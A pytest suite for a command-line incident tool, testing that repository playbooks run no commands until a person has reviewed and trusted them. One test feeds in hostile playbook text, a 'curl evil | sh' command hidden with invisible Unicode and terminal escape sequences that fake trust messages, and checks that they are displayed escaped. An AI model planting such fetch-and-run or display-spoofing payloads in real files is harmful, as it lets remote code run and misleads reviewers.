"""A repository's playbook runs nothing before somebody has seen its commands and said yes."""

from __future__ import annotations

from dataclasses import dataclass
from pathlib import Path

import pytest

from tests.cli_fixtures import PLAYBOOK, Cli
from tests.git_fixtures import commit, git

TITLE = "Vault crash"


@dataclass
class Place:
    """A repository with a playbook of its own."""

    cli: Cli
    file: Path

    def run(self, *words: str, text: str = "") -> tuple[int, str]:
        """The exit code and everything said."""
        answer = self.cli(*words, text=text)
        return answer.code, answer.out + answer.err

    @property
    def branches(self) -> list[str]:
        """The branches there are."""
        return git(self.cli.folder, "branch", "--format=%(refname:short)").split()


@pytest.fixture
def place(cli: Cli) -> Place:
    """The team's playbook lies in the repository, not in the configuration."""
    (cli.data.parent / "playbooks" / "team.toml").unlink()
    git(cli.folder, "init", "-q", "-b", "main")
    commit(cli.folder, "a", "1", "Release 1.0.0")
    git(cli.folder, "tag", "v1.0.0")
    (cli.folder / ".git" / "info" / "exclude").write_text(".hotfix\n")
    (cli.folder / ".hotfix").mkdir()
    file = cli.folder / ".hotfix" / "playbook.toml"
    file.write_text(PLAYBOOK)
    return Place(cli, file)


def test_before_it_is_trusted_nothing_runs(place: Place) -> None:
    """Neither an operation nor a command; looking at the plan is free, and the refusal says how to go on."""
    assert "not trusted" in place.cli("declare", TITLE, "--answer", "down=y").err
    for word in ("branch", "1.3", "2.1"):
        code, said = place.run("run", word, "--yes")
        assert code == 5
        assert "hotfix playbook trust -i HF-1121-0314" in said
        assert "make test" not in said
    assert place.run("run", "branch", "--dry-run")[0] == 0
    assert place.branches == ["main"]
    assert place.run("done", "1.1")[0] == 0, "what a person does needs no trust"


def test_trusting_shows_every_command_and_asks(place: Place) -> None:
    """Nobody there means no; --yes is said by who has read it."""
    place.cli.declared()
    code, said = place.run("playbook", "trust")
    assert code == 5
    assert "$ make test 'V=$fix'" in said
    assert "operation branch" in said
    assert "from    HF-1121-0314 (incident)" in said
    assert "--yes" in said
    assert place.run("run", "branch", "--yes")[0] == 5
    assert place.run("playbook", "trust", "--yes")[0] == 0
    assert place.run("run", "branch", "--yes")[0] == 0
    assert place.branches == ["hotfix/v1.0.1", "main"]


def test_it_is_listed_with_its_trust(place: Place) -> None:
    """Origin and trust, also as data; what does not load is neither."""
    assert place.cli("playbook", "list").out.splitlines()[0].split() == [
        "team",
        "repository",
        "not",
        "trusted",
        "Team",
    ]
    assert place.run("playbook", "trust", "team", "--yes")[0] == 0
    found = {p["id"]: p["trusted"] for p in place.cli("playbook", "list", "--json").data["playbooks"]}
    assert found["team"] is True
    assert found["crates-cli"] is True
    place.file.write_text("x")
    found = {p["id"]: p["trusted"] for p in place.cli("playbook", "list", "--json").data["playbooks"]}
    assert found["playbook"] is None


def test_one_more_byte_is_another_playbook(place: Place) -> None:
    """An edited file is asked for again; the incident that carries the trusted text goes on, and the other does not."""
    place.run("playbook", "trust", "team", "--yes")
    old = place.cli.declared()
    place.file.write_text(PLAYBOOK + "#")
    assert "not trusted" in place.cli("playbook", "list").out
    new = place.cli.declared()
    assert place.run("run", "-i", new, "branch", "--yes")[0] == 5
    assert place.run("run", "-i", old, "branch", "--yes")[0] == 0


def test_it_can_be_taken_back(place: Place) -> None:
    """--revoke; a built-in one is trusted by where it lies."""
    place.run("playbook", "trust", ".hotfix/playbook.toml", "--yes")
    place.cli.declared()
    assert "no more" in place.run("playbook", "trust", "--revoke", "team")[1]
    assert "was not trusted" in place.run("playbook", "trust", "--revoke", "team")[1]
    assert place.run("run", "branch", "--yes")[0] == 5
    assert place.run("playbook", "trust", "crates-cli", "--revoke")[0] == 5
    assert "is trusted as it stands" in place.run("playbook", "trust", "crates-cli")[1]


def test_one_s_own_keeps_running_when_its_file_is_edited(place: Place) -> None:
    """A running incident keeps what it carries; the configuration is the user's, so nobody is asked."""
    own = place.cli.data.parent / "playbooks" / "team.toml"
    own.write_text(PLAYBOOK + "# mine")
    place.file.unlink()
    place.cli.declared()
    own.write_text(PLAYBOOK + "# changed")
    assert place.run("run", "branch", "--yes")[0] == 0


def test_read_only_trusts_nothing(place: Place) -> None:
    """It writes nothing, so it cannot trust either."""
    assert place.run("playbook", "trust", "team", "--yes", "--read-only")[0] == 5
    assert "not trusted" in place.cli("playbook", "list").out


HOSTILE = (
    ('"make", "test", "V=$fix"', '"sh", "-c", "curl evil | sh \\u202e\\u200b #\\u001b[2K"'),
    ('text = "Tests pass"', 'text = "Nothing\\n    $ true"'),
    ('title = "Team"', 'title = "Team\\n\\u001b]0;x\\u0007It is trusted as it stands."'),
)


def test_nothing_hides_in_what_is_shown(place: Place) -> None:
    """Hidden characters have their numbers, line ends are marks, and nothing reaches the terminal."""
    text = PLAYBOOK
    for old, new in HOSTILE:
        assert text.count(old) == 1
        text = text.replace(old, new)
    place.file.write_text(text)
    said = place.run("playbook", "trust", "team")[1]
    assert "$ sh -c 'curl evil | sh <U+202E><U+200B> #␛[2K'" in said
    assert "Nothing⏎    $ true" in said
    assert said.startswith("Team⏎It is trusted as it stands. (team)\n")
    assert not set(said) & {"\x1b", "\x07", "\u202e", "\u200b"}
    shown = place.cli("playbook", "trust", "team", "--json")
    assert shown.data["trusted"] is False
    assert "\u202e" not in shown.out


def test_a_playbook_cannot_trust_itself(place: Place) -> None:
    """Neither by a key of its own nor by the settings of its repository."""
    (place.cli.folder / ".hotfix" / "config.toml").write_text('data_dir = "/tmp"\ntrusted = true\n')
    place.file.write_text("trusted = true\n" + PLAYBOOK)
    assert "unknown key “trusted”" in place.run("playbook", "trust", "team")[1]
    place.file.write_text(PLAYBOOK)
    assert "not trusted" in place.cli("playbook", "list").out
